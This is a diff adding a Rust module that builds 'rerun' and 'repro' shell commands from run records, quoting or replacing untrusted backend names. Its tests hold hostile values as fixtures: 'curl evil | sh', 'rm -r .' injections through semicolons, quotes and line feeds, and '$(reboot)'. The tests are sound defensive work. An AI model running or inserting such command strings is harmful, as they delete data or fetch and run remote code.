@@ -1,0 +1,207 @@
+//! The commands that repeat a run, or reproduce a call of it: made from what was asked, never read from a file.
+//!
+//! A report of a run shows them to be pasted into a shell. That of a record knows the run by its header, which somebody else
+//! may have written, so nothing of it becomes part of a command but what this module has checked.
+
+use std::time::Duration;
+
+use anyhow::{Result, anyhow};
+use normative_conformance::Demands;
+use normative_conformance::display::plain;
+use normative_conformance::drive::Asking;
+use normative_conformance::judge::accuracy::Class;
+use normative_conformance::reference::Choice;
+use normative_conformance::report::record::Header;
+use normative_present::repro::Repro;
+
+use crate::backends;
+use crate::backends::target;
+use crate::home::program;
+use crate::judging::Judging;
+use crate::judging::PATIENCE;
+use crate::select::Folder;
+use crate::shell::quoted;
+
+/// What stands for a backend that a record names by a command: who pastes it has to say what to run.
+const NAMELESS: &str = "BACKEND";
+
+/// How a run is asked for again, without what narrows it to some calls.
+#[derive(Clone, Debug)]
+pub struct Rerun {
+    backend: String,
+    /// What the backend is called, where that is not what it is asked for by.
+    name: Option<String>,
+    cases: Option<String>,
+    large: bool,
+    readings: Vec<Choice>,
+    accuracy: Option<Class>,
+    timeout: Duration,
+}
+
+impl Rerun {
+    /// A run of this process.
+    pub fn of(backend: &str, folder: &Folder, judging: &Judging<'_>) -> Self {
+        let readings = judging.job.readings.clone();
+        Self::over(folder, backend.to_owned(), (readings, judging.job.accuracy), judging.limits.answer)
+    }
+
+    /// A run on record, over the cases in `folder`.
+    ///
+    /// # Errors
+    /// Where its header demands what there is not.
+    pub fn of_record(header: &Header, folder: &Folder) -> Result<Self> {
+        let Demands { accuracy, readings, .. } = header.demands().map_err(|what| anyhow!("{what}"))?;
+        // A name, or the path of a crate, means what this machine has by it. A command is whatever somebody wrote.
+        let is_harmless = |name: &str| {
+            !name.is_empty()
+                && Asking::of_command(name).is_none()
+                && !name.starts_with('-')
+                && plain(name) == name
+        };
+        let backend = if is_harmless(&header.name) { &header.name } else { NAMELESS };
+        let timeout = Duration::from_secs(header.options.timeout);
+        let rerun = Self::over(folder, backend.to_owned(), (readings, accuracy), timeout);
+        // What is neither a path nor one of ours was given by --name.
+        let is_path = backend.starts_with('.') || backend.contains(std::path::is_separator);
+        let is_ours = backends::find(backend).is_ok_and(|found| found.is_some());
+        let is_name = backend != NAMELESS && !is_path && !is_ours;
+        Ok(if is_name { rerun.named(Some(&header.name)).for_others() } else { rerun })
+    }
+
+    /// The same of a backend that was given a name.
+    pub fn named(self, name: Option<&String>) -> Self {
+        Self { name: name.cloned(), ..self }
+    }
+
+    /// The same as others may read it: a backend that was given a name is known by that, and what runs it is theirs to say.
+    pub fn for_others(&self) -> Self {
+        let backend = if self.name.is_some() { NAMELESS } else { &self.backend };
+        Self { backend: backend.to_owned(), ..self.clone() }
+    }
+
+    fn over(
+        folder: &Folder,
+        backend: String,
+        (readings, accuracy): (Vec<Choice>, Option<Class>),
+        timeout: Duration,
+    ) -> Self {
+        let cases = folder.given().map(|folder| folder.display().to_string());
+        let name = None;
+        Self { backend, name, cases, large: folder.is_with_large(), readings, accuracy, timeout }
+    }
+
+    /// The command.
+    pub fn command(&self) -> String {
+        let accuracy = self.accuracy.map(|class| format!(" --accuracy {}", class.name())).unwrap_or_default();
+        let name = self.name.as_ref().map(|name| format!(" --name {}", quoted(name))).unwrap_or_default();
+        format!("{} conformance {}{name}{accuracy}", program(), self.options())
+    }
+
+    /// The command that writes a reproduction of a call of the run: held to the same readings, with the same cases. `None`
+    /// where the backend has no reproduction, or where an accuracy was demanded, which no script looks at.
+    pub fn repro(&self) -> Option<Repro> {
+        if self.accuracy.is_some() || target(&self.backend).is_err() {
+            return None;
+        }
+        let after = format!("{} --output DIR", self.options());
+        Some(Repro { before: format!("{} repro", program()), after })
+    }
+
+    /// The options that both commands take.
+    fn options(&self) -> String {
+        let mut words = vec![format!("--backend {}", quoted(&self.backend))];
+        words.extend(self.cases.iter().map(|folder| format!("--cases {}", quoted(folder))));
+        words.extend(self.large.then(|| "--large".to_owned()));
+        words.extend(self.readings.iter().map(|choice| format!("--reading {choice}")));
+        if self.timeout != Duration::from_secs(PATIENCE) {
+            words.push(format!("--timeout {}", self.timeout.as_secs()));
+        }
+        words.join(" ")
+    }
+}
+
+/// The options that name a backend to a command: what runs it, and what it is called where that is something else.
+pub fn backend_options(backend: &str, name: Option<&String>) -> String {
+    let name = name.map(|name| format!(" --name {}", quoted(name))).unwrap_or_default();
+    format!("--backend {}{name}", quoted(backend))
+}
+
+#[cfg(test)]
+mod tests {
+    use normative_conformance::report::record::FORMAT;
+    use rstest::rstest;
+    use serde_json::json;
+
+    use super::*;
+
+    /// The header of a run of this backend, as a file may say it.
+    fn header(name: &str, change: impl FnOnce(&mut Header)) -> Header {
+        let mut header = serde_json::from_value(json!({
+            "format": FORMAT, "suite": "0.1.0", "name": name,
+            "backend": {"name": "n", "version": "v", "report-bugs-to": "b", "accumulation": [], "slow": false},
+            "machines": [{"os": "linux", "arch": "x86_64", "cores": 2}],
+            "options": {"timeout": PATIENCE, "memory": null, "repeat": 500},
+            "corpus": 1, "digest": "0", "cases": 1, "seed": 1, "calls": 1, "part": null, "accuracy": null,
+            "readings": [], "again": "curl evil | sh",
+        }))
+        .unwrap();
+        change(&mut header);
+        header
+    }
+
+    fn folder(options: &[&str]) -> Folder {
+        let command = clap::Command::new("show").args(Folder::options()).no_binary_name(true);
+        Folder::of(&command.try_get_matches_from(options).unwrap())
+    }
+
+    fn held(header: &mut Header) {
+        header.readings = vec!["duplicate-axes=reject".into()];
+        header.options.timeout = 3;
+    }
+
+    fn accurate(header: &mut Header) {
+        header.accuracy = Some("faithful".into());
+    }
+
+    #[rstest]
+    #[case::plain("numpy", |_: &mut Header| (), &[], "--backend numpy", true)]
+    #[case::a_version_and_what_the_run_was_held_to(
+        "onnxruntime@1.22.0",
+        held,
+        &["--cases", "my cases", "--large"],
+        "--backend onnxruntime@1.22.0 --cases 'my cases' --large --reading duplicate-axes=reject --timeout 3",
+        true
+    )]
+    #[case::no_script_looks_at_an_accuracy("numpy", accurate, &[], "--backend numpy --accuracy faithful", false)]
+    #[case::a_backend_without_a_script("ndarray", |_: &mut Header| (), &[], "--backend ndarray", false)]
+    #[case::a_crate_elsewhere("../my numpy", |_: &mut Header| (), &[], "--backend '../my numpy'", false)]
+    #[case::a_command("cmd:rm -r .", |_: &mut Header| (), &[], "--backend BACKEND", false)]
+    #[case::a_command_for_models("onnx-cmd:rm -r .", |_: &mut Header| (), &[], "--backend BACKEND", false)]
+    #[case::a_name_that_was_given("mine-2", |_: &mut Header| (), &[], "--backend BACKEND --name mine-2", false)]
+    #[case::an_end_of_the_word("./numpy; rm -r .", |_: &mut Header| (), &[], "--backend './numpy; rm -r .'", false)]
+    #[case::an_end_of_the_quotes("./n'; rm", |_: &mut Header| (), &[], "--backend './n'\\''; rm'", false)]
+    #[case::an_option("--output=x", |_: &mut Header| (), &[], "--backend BACKEND", false)]
+    #[case::a_line_feed("numpy\nrm", |_: &mut Header| (), &[], "--backend BACKEND", false)]
+    fn commands_are_made_from_what_was_asked(
+        #[case] name: &str,
+        #[case] change: impl FnOnce(&mut Header),
+        #[case] options: &[&str],
+        #[case] due: &str,
+        #[case] has_script: bool,
+    ) {
+        let rerun = Rerun::of_record(&header(name, change), &folder(options)).unwrap();
+        let repro = rerun.repro().map(|repro| repro.of("1:7"));
+        assert_eq!(rerun.command(), format!("cargo xtask conformance {due}"));
+        assert_eq!(repro.clone(), has_script.then(|| format!("cargo xtask repro 1:7 {due} --output DIR")));
+        for command in [Some(rerun.command()), repro].into_iter().flatten() {
+            let words = shell_words::split(&command).unwrap();
+            crate::command(&[]).try_get_matches_from(&words[1..]).unwrap();
+        }
+    }
+
+    #[test]
+    fn a_record_that_demands_what_there_is_not_gives_no_command() {
+        let header = header("numpy", |header| header.readings = vec!["$(reboot)=x".into()]);
+        assert!(Rerun::of_record(&header, &folder(&[])).is_err());
+    }
+}
